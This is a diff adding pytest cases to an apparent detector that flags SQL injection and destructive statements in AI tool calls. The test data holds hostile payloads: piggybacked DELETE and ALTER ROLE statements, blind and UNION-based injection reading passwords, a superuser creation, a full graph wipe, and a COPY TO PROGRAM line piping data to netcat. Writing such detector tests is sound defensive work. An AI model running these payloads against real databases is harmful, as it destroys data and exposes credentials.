@@ -90,7 +90,36 @@ NEGATIVES = [
 ]
 
 
-@pytest.mark.parametrize(("text", "expected"), POSITIVES + NEGATIVES)
+# The engine scans each tool call as a line ``name {arguments}``: a match on such a line is about to run.
+TOOL_CALLS = [
+    ('run_query {"sql": "SELECT id FROM t WHERE x = 1; DELETE FROM audit_events WHERE 1=1;"}',
+     [(INJECTION, "; DELETE FROM ", "block")]),
+    ('db_exec {"statement": "select name from pets; insert into admins (name) values (\'eve\')"}',
+     [(INJECTION, "; insert into ", "block")]),
+    ('sql {"q": "SELECT 1; ALTER ROLE web_user WITH LOGIN"}', [(INJECTION, "; ALTER ROLE ", "block")]),
+    ('get_item {"item_id": "55 AND 1=(SELECT COUNT(*) FROM secrets_table)"}',
+     [(INJECTION, "AND 1=(SELECT", "block")]),
+    ("price > 3 AND ASCII(SUBSTRING((SELECT name FROM t LIMIT 1),1,1)) > 64", [(INJECTION, "AND ASCII(SUBSTRING((SELECT", "mid")]),
+    ('find_order {"ref": "12) OR (3=3"}', [(INJECTION, "12) OR (3=3", "block")]),
+    ('graph {"cypher": "MATCH (x) DETACH DELETE x"}', [(DESTRUCTIVE, "MATCH (x) DETACH DELETE x", "block")]),
+    ('migrate {"sql": "CREATE USER ops2 WITH SUPERUSER PASSWORD \'p\'"}',
+     [(DESTRUCTIVE, "CREATE USER ops2 WITH SUPERUSER", "block")]),
+    ('run_sql {"query": "COPY (SELECT * FROM t) TO PROGRAM \'nc host 9\'"}',
+     [(DESTRUCTIVE, "COPY (SELECT * FROM t) TO PROGRAM '", "block")]),
+    ('lookup {"name": "x\' UNION SELECT login, passwd FROM accounts --"}',
+     [(INJECTION, "UNION SELECT login, passwd FROM accounts --\"}", "block")]),
+    # hard negatives: ordinary statements and scripts in tool calls, graph deletes with a filter
+    ('run_sql {"query": "SELECT region, SUM(x) FROM sales GROUP BY region;"}', []),
+    ('run_sql {"query": "BEGIN; UPDATE jobs SET state = \'done\' WHERE id = 7; COMMIT;"}', []),
+    ('graph {"cypher": "MATCH (n:Temp) WHERE n.age > 3 DETACH DELETE n"}', []),
+    ('migrate {"sql": "CREATE ROLE reporting LOGIN PASSWORD \'x\'; GRANT SELECT ON t TO reporting;"}', []),
+    ("How would I wipe a Neo4j test database? Is MATCH (n) DETACH DELETE n the usual way?",
+     [(DESTRUCTIVE, "MATCH (n) DETACH DELETE n", "low")]),
+    ("SELECT a FROM t; DELETE FROM t WHERE a < 3;", []),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), POSITIVES + NEGATIVES + TOOL_CALLS)
 def test_table(text: str, expected: list[tuple[str, str, str]]) -> None:
     assert run(text) == expected
 
@@ -124,6 +153,10 @@ RULE_EXAMPLES = {
     "SQL-OUTFILE": "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'",
     "SQL-LOAD-FILE": "SELECT LOAD_FILE(0x2f6574632f706173737764)",
     "SQL-ERROR-BASED": "and updatexml(1,concat(0x7e,user()),1)",
+    "SQL-PIGGYBACK": 'q {"sql": "SELECT 1; DROP TABLE t"}',
+    "SQL-BLIND": "1 AND 1=(SELECT 1)",
+    "SQL-SUPERUSER": "ALTER ROLE bob WITH SUPERUSER;",
+    "SQL-GRAPH-WIPE": "MATCH (n) DELETE n",
 }
 
 
